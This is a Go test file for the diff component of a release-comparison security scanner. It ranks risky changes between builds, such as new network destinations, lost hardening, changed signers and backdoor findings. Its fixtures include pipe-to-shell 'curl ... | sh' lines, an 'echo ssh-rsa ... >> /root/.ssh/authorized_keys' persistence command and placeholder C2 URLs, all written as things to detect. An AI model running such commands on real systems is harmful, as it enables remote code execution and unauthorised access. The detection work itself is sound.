package diff

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"kensa.dev/kensa/internal/result"
)

func file(path, digest, format string, p *result.Profile) result.Artifact {
	return result.Artifact{Path: path, Type: "file", Digest: digest, Size: 100, Mode: "0755", Format: format, Profile: p}
}

func kinds(r *Report) []string {
	var out []string
	for _, c := range r.Changes {
		out = append(out, c.Kind+" "+c.Path)
	}
	return out
}

// A release's own versioned names (the archive, the directory in it, a versioned
// library) do not turn every file into an addition and a removal.
func TestPairing(t *testing.T) {
	old := &result.Result{Artifacts: []result.Artifact{
		file("app-1.0.tar.gz", "sha256:a0", "tar.gz", nil),
		file("app-1.0.tar.gz!app-1.0/README", "sha256:r", "text", nil),
		file("app-1.0.tar.gz!app-1.0/lib/libfoo.so.1.0", "sha256:l0", "data", nil),
		file("app-1.0.tar.gz!app-1.0/doc/guide.txt", "sha256:g", "text", nil),
		file("app-1.0.tar.gz!app-1.0/old.txt", "sha256:o", "text", nil),
	}}
	new := &result.Result{Artifacts: []result.Artifact{
		file("app-1.1.tar.gz", "sha256:a1", "tar.gz", nil),
		file("app-1.1.tar.gz!app-1.1/README", "sha256:r", "text", nil),
		file("app-1.1.tar.gz!app-1.1/lib/libfoo.so.1.1", "sha256:l1", "data", nil),
		file("app-1.1.tar.gz!app-1.1/docs/guide.txt", "sha256:g", "text", nil),
		file("app-1.1.tar.gz!app-1.1/new.txt", "sha256:n", "text", nil),
	}}
	r := Compare(old, new, Options{})
	got := kinds(r)
	slices.Sort(got)
	want := []string{
		"file-added app-1.1.tar.gz!app-1.1/new.txt",
		"file-changed app-1.1.tar.gz",
		"file-changed app-1.1.tar.gz!app-1.1/lib/libfoo.so.1.1",
		"file-removed app-1.0.tar.gz!app-1.0/old.txt",
		"file-renamed app-1.1.tar.gz!app-1.1/docs/guide.txt",
	}
	if !slices.Equal(got, want) {
		t.Errorf("changes:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if f := r.Summary.Files; f.Unchanged != 1 || f.Changed != 2 || f.Renamed != 1 || f.Added != 1 || f.Removed != 1 {
		t.Errorf("counts %+v", f)
	}
}

// The change that adds a destination to an existing executable outranks a release's
// ordinary changes, however many.
func TestRanking(t *testing.T) {
	base := &result.Profile{Imports: []string{"fopen", "printf"}, Libraries: []string{"libc.so.6"},
		Network: []string{"url:https://updates.vendor.example/api"}, Hardening: []string{"canary", "nx", "pie", "relro=full"}}
	grown := *base
	grown.Imports = []string{"fopen", "printf", "strlcpy", "qsort", "memmem"}
	backdoored := *base
	backdoored.Network = append(slices.Clone(base.Network), "domain:api.appsync-telemetry.net")
	weaker := *base
	weaker.Hardening = []string{"canary", "nx", "relro=partial"}
	old := &result.Result{Artifacts: []result.Artifact{
		file("bin/tool", "sha256:1", "elf", base), file("bin/agentd", "sha256:2", "elf", base),
		file("bin/ctl", "sha256:3", "elf", base), file("etc/app.conf", "sha256:4", "text", nil),
	}}
	new := &result.Result{Artifacts: []result.Artifact{
		file("bin/tool", "sha256:1b", "elf", &grown), file("bin/agentd", "sha256:2b", "elf", &backdoored),
		file("bin/ctl", "sha256:3b", "elf", &weaker), file("etc/app.conf", "sha256:4b", "text", nil),
	}}
	r := Compare(old, new, Options{})
	if got := kinds(r); got[0] != "file-changed bin/agentd" || got[1] != "file-changed bin/ctl" {
		t.Fatalf("ranking %v", got)
	}
	top := r.Changes[0]
	if top.Level != result.High || !slices.ContainsFunc(top.Details, func(d string) bool { return strings.Contains(d, "api.appsync-telemetry.net") }) {
		t.Errorf("top change %+v", top)
	}
	if d := r.Changes[1].Details; !slices.Contains(d, "hardening lost: pie, relro=full") {
		t.Errorf("hardening details %q", d)
	}
	// Declared, the same destination weighs little.
	declared := Compare(old, new, Options{Declared: func(h string) bool { return h == "api.appsync-telemetry.net" }})
	for _, c := range declared.Changes {
		if c.Path == "bin/agentd" && c.Level.Rank() >= result.Medium.Rank() {
			t.Errorf("a declared destination ranks %s", c.Level)
		}
	}
	r.Filter(result.Medium)
	if len(r.Changes) != 2 || r.Summary.Listed != 2 || r.Summary.Risk[result.High] != 1 {
		t.Errorf("after Filter(medium): %v, summary %+v", kinds(r), r.Summary)
	}
}

func TestProfileDeltas(t *testing.T) {
	for name, tc := range map[string]struct {
		old, new result.Profile
		level    result.Severity
		detail   string
	}{
		"interposing export":  {result.Profile{Exports: []string{"init"}}, result.Profile{Exports: []string{"init", "readdir", "readdir64"}}, result.High, "new export of readdir, readdir64"},
		"ifunc":               {result.Profile{}, result.Profile{IFuncs: []string{"crc64_resolve"}}, result.Medium, "crc64_resolve"},
		"signer":              {result.Profile{Signers: []string{"CN=Vendor"}}, result.Profile{Signers: []string{"CN=Someone Else"}}, result.Critical, "instead of CN=Vendor"},
		"renewed certificate": {result.Profile{Signers: []string{"CN=Vendor (sha256 aa)"}}, result.Profile{Signers: []string{"CN=Vendor (sha256 bb)"}}, result.Medium, "another certificate"},
		"signature lost":      {result.Profile{Signers: []string{"CN=Vendor"}}, result.Profile{}, result.High, "no longer signed"},
		"onion":               {result.Profile{}, result.Profile{Network: []string{"onion:" + strings.Repeat("a", 56) + ".onion"}}, result.Critical, "onion service"},
		"entropy":             {result.Profile{Sections: []result.SectionProfile{{Name: ".data", Entropy: 4.1}}}, result.Profile{Sections: []result.SectionProfile{{Name: ".data", Entropy: 7.8}}}, result.Medium, ".data entropy 4.10 → 7.80"},
		"script":              {result.Profile{}, result.Profile{Observations: []string{"pipe-to-shell: curl -s https://x.example/i | sh"}}, result.High, "pipe-to-shell"},
		"dangerous import":    {result.Profile{Imports: []string{"kernel32.dll!CreateFileW"}}, result.Profile{Imports: []string{"kernel32.dll!CreateFileW", "kernel32.dll!CreateRemoteThread"}}, result.Medium, "CreateRemoteThread"},
		"nothing":             {result.Profile{Imports: []string{"a"}}, result.Profile{Imports: []string{"a"}}, result.Low, "code changed"},
		"library":             {result.Profile{Libraries: []string{"libc.so.6"}}, result.Profile{Libraries: []string{"libc.so.6", "libcurl.so.4"}}, result.Medium, "new library: libcurl.so.4"},
		"executable section":  {result.Profile{Sections: []result.SectionProfile{{Name: ".text", Perm: "r-x"}}}, result.Profile{Sections: []result.SectionProfile{{Name: ".text", Perm: "r-x"}, {Name: ".hook", Perm: "rwx", Size: 64}}}, result.Medium, "new executable section .hook"},
		"string of interest":  {result.Profile{}, result.Profile{Interesting: []string{"/etc/ld.so.preload"}}, result.Medium, `new strings of interest: "/etc/ld.so.preload"`},
	} {
		old := &result.Result{Artifacts: []result.Artifact{file("x", "sha256:1", "elf", &tc.old)}}
		new := &result.Result{Artifacts: []result.Artifact{file("x", "sha256:2", "elf", &tc.new)}}
		c := Compare(old, new, Options{}).Changes[0]
		if c.Level != tc.level || !strings.Contains(strings.Join(c.Details, "\n"), tc.detail) {
			t.Errorf("%s: %s (%d) %q; want %s and %q", name, c.Level, c.Risk, c.Details, tc.level, tc.detail)
		}
	}
}

func TestFindingsComponentsChecks(t *testing.T) {
	old := &result.Result{
		Artifacts: []result.Artifact{file("usr/lib/libz.so.1", "sha256:z1", "elf", &result.Profile{}), file("bin/a", "sha256:a", "elf", nil)},
		Findings: []result.Finding{
			{Rule: "hardening/no-pie", Severity: result.Low, Path: "bin/a", Message: "m"},
			{Rule: "backdoor/old", Severity: result.High, Path: "bin/a", Message: "gone"},
		},
		Components: []result.Component{{Name: "zlib", Version: "1.3", Type: "deb", Files: []string{"usr/lib/libz.so.1"}},
			{Name: "openssl", Version: "3.0.11", Type: "deb"}, {Name: "gone", Version: "1", Type: "deb"}},
		Checks: []result.Check{{Name: "provenance/slsa", Subject: "app.tar.gz", Status: result.Pass},
			{Name: "signature/sigstore", Subject: "app.tar.gz", Status: result.Pass, Detail: "signed by release@vendor.example"}},
	}
	new := &result.Result{
		Artifacts: []result.Artifact{file("usr/lib/libz.so.1", "sha256:z2", "elf", &result.Profile{}), file("bin/a", "sha256:a", "elf", nil)},
		Findings: []result.Finding{
			{Rule: "hardening/no-pie", Severity: result.Medium, Path: "bin/a", Message: "m"},
			{Rule: "backdoor/new", Severity: result.Critical, Path: "bin/a", Message: "new"},
		},
		Components: []result.Component{{Name: "zlib", Version: "1.3", Type: "deb", Files: []string{"usr/lib/libz.so.1"}},
			{Name: "openssl", Version: "3.0.9", Type: "deb"}, {Name: "added", Version: "2", Type: "deb"}},
		Checks: []result.Check{{Name: "signature/sigstore", Subject: "app.tar.gz", Status: result.Pass, Detail: "signed by someone@elsewhere.example"}},
	}
	r := Compare(old, new, Options{})
	got := map[string]Change{}
	for _, c := range r.Changes {
		got[c.Kind+" "+c.Subject] = c
	}
	for k, level := range map[string]result.Severity{
		"finding-new backdoor/new":          result.Critical,
		"finding-gone backdoor/old":         result.Info,
		"finding-severity hardening/no-pie": result.Medium,
		"component-rebuilt zlib":            result.High,
		"component-downgraded openssl":      result.Medium,
		"component-added added":             result.Low,
		"component-removed gone":            result.Info,
		"provenance-lost provenance/slsa":   result.High,
		"signer-changed signature/sigstore": result.High,
	} {
		if c, ok := got[k]; !ok || c.Level != level {
			t.Errorf("%s: got %+v, want level %s", k, c, level)
		}
	}
	if s := r.Summary; s.Findings != (FindingCounts{New: 1, Gone: 1, Changed: 1}) || s.Components.Rebuilt != 1 || s.Components.Downgraded != 1 {
		t.Errorf("summary %+v", s)
	}
	if r.Changes[0].Kind != FindingNew {
		t.Errorf("first change %+v", r.Changes[0])
	}
}

// Profiles come from the analyzers' facts as a facts document holds them.
func TestProfileOf(t *testing.T) {
	var facts map[string]any
	err := json.Unmarshal([]byte(`{
	  "elf": {"needed": ["libc.so.6"], "importedSymbols": [{"name": "connect"}, {"name": "printf"}],
	          "exportedSymbols": [{"name": "readdir"}], "ifuncSymbols": ["resolve"], "pie": true, "nx": true,
	          "relro": "full", "canary": true, "fortifiedCount": 2, "constructorCount": 2,
	          "sections": [{"name": ".text", "type": "progbits", "flags": "AX", "size": 4096, "entropy": 6.1},
	                       {"name": "", "type": "null"}]},
	  "go": {"deps": [{"path": "golang.org/x/net", "version": "v0.1.0"}]},
	  "strings": {"entropy": 5.5, "notable": [{"value": "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys"}],
	              "indicators": {"urls": {"items": [{"kind": "url", "value": "https://c2.example.net/x"}]},
	                             "domains": {"items": [{"kind": "domain", "value": "errors.is"}, {"kind": "domain", "value": "c2.example.net"}]},
	                             "ipv4": {"items": [{"kind": "ipv4", "value": "10.0.0.1", "scope": "private"}, {"kind": "ipv4", "value": "203.0.113.9", "scope": "public"}]}}}
	}`), &facts)
	if err != nil {
		t.Fatal(err)
	}
	p := ProfileOf(result.Artifact{Path: "x", Type: "file", Format: "elf", Mode: "0755", Facts: facts})
	if p == nil {
		t.Fatal("no profile")
	}
	b, _ := json.Marshal(p)
	for _, want := range []string{`"imports":["connect","printf"]`, `"exports":["readdir"]`, `"libraries":["libc.so.6"]`, `"ifuncs":["resolve"]`,
		`{"name":".text","size":4096,"perm":"r-x","entropy":6.1}`, `"constructors":2`,
		`"network":["domain:c2.example.net","ipv4:203.0.113.9","url:https://c2.example.net/x"]`,
		`"interesting":["echo ssh-rsa AAAA \u003e\u003e /root/.ssh/authorized_keys"]`,
		`"hardening":["canary","fortify","no-wx","nx","pie","relro=full"]`, `"modules":["golang.org/x/net@v0.1.0"]`} {
		if !strings.Contains(string(b), want) {
			t.Errorf("profile lacks %s:\n%s", want, b)
		}
	}
	if ProfileOf(result.Artifact{Path: "x", Format: "text", Facts: facts}) != nil {
		t.Error("a text file got a profile")
	}
}

// FuzzCompare: saved results are read from files anyone may hand over; whatever their
// facts and profiles hold, drawing profiles and comparing never panics.
func FuzzCompare(f *testing.F) {
	f.Add([]byte(`{"elf": {"importedSymbols": [{"name": "connect"}], "sections": [{"name": ".text", "flags": "AX", "size": 10, "entropy": 7.5}]},
	  "strings": {"indicators": {"urls": {"items": [{"kind": "url", "value": "https://x.example.com/"}]}}}}`),
		[]byte(`{"pe": {"imports": ["KERNEL32.dll!CreateRemoteThread"], "authenticode": {"signatures": [{"signer": {"subject": "CN=x"}}]}}}`))
	f.Add([]byte(`{"script": {"observations": [{"kind": "pipe-to-shell", "text": "curl x | sh"}]}}`), []byte(`{"macho": {"architectures": [{"dylibs": [{"name": "a"}]}]}}`))
	f.Fuzz(func(t *testing.T, a, b []byte) {
		side := func(raw []byte) *result.Result {
			var facts map[string]any
			if json.Unmarshal(raw, &facts) != nil {
				return &result.Result{}
			}
			art := result.Artifact{Path: "bin/x", Type: "file", Format: "elf", Mode: "0755", Digest: "sha256:" + string(rune('a'+len(raw)%26)), Facts: facts}
			art.Profile = ProfileOf(art)
			return &result.Result{Artifacts: []result.Artifact{art}}
		}
		r := Compare(side(a), side(b), Options{})
		for _, c := range r.Changes {
			if c.Risk < 0 || c.Risk > 100 || c.Level.Rank() == 0 {
				t.Fatalf("change %+v out of range", c)
			}
		}
	})
}

// A program renamed and changed at once is paired by what it contains, and a program
// that merely resembles another is not.
func TestSimilarityPairing(t *testing.T) {
	agent := &result.Profile{Imports: []string{"connect", "fopen", "getaddrinfo", "printf", "socket", "strlen"}, Libraries: []string{"libc.so.6"},
		Sections: []result.SectionProfile{{Name: ".text"}, {Name: ".data"}, {Name: ".rodata"}}}
	agent2 := *agent
	agent2.Imports = append(slices.Clone(agent.Imports), "send")
	other := &result.Profile{Imports: []string{"crypt", "getpwnam", "setuid"}, Libraries: []string{"libc.so.6", "libcrypt.so.1"},
		Sections: []result.SectionProfile{{Name: ".text"}, {Name: ".data"}}}
	old := &result.Result{Artifacts: []result.Artifact{file("bin/agentd", "sha256:1", "elf", agent), file("bin/passwdd", "sha256:2", "elf", other)}}
	new := &result.Result{Artifacts: []result.Artifact{file("sbin/agent-daemon", "sha256:3", "elf", &agent2), file("bin/helper", "sha256:4", "elf", &result.Profile{
		Imports: []string{"a", "b", "c", "d", "e"}})}}
	got := kinds(Compare(old, new, Options{}))
	slices.Sort(got)
	want := []string{"file-added bin/helper", "file-changed sbin/agent-daemon", "file-removed bin/passwdd"}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	for _, c := range Compare(old, new, Options{}).Changes {
		if c.Path == "sbin/agent-daemon" && (c.OldPath != "bin/agentd" || !strings.Contains(c.Summary, "bin/agentd was renamed to sbin/agent-daemon and changed")) {
			t.Errorf("renamed and changed: %+v", c)
		}
	}
}

// A file whose name carries a version that did not change, with other bytes, is the
// "same name and version, different bytes" case.
func TestSameVersionOtherBytes(t *testing.T) {
	old := &result.Result{Artifacts: []result.Artifact{file("pkgs/libfoo_1.2.3_amd64.deb", "sha256:1", "deb", nil), file("README", "sha256:r", "text", nil)}}
	new := &result.Result{Artifacts: []result.Artifact{file("pkgs/libfoo_1.2.3_amd64.deb", "sha256:2", "deb", nil), file("README", "sha256:r2", "text", nil)}}
	r := Compare(old, new, Options{})
	if c := r.Changes[0]; c.Path != "pkgs/libfoo_1.2.3_amd64.deb" || c.Level != result.Medium || !strings.Contains(strings.Join(c.Details, ""), "same name and version, different bytes") {
		t.Errorf("first change %+v", c)
	}
	if c := r.Changes[1]; c.Path != "README" || c.Level != result.Info {
		t.Errorf("second change %+v", c)
	}
}
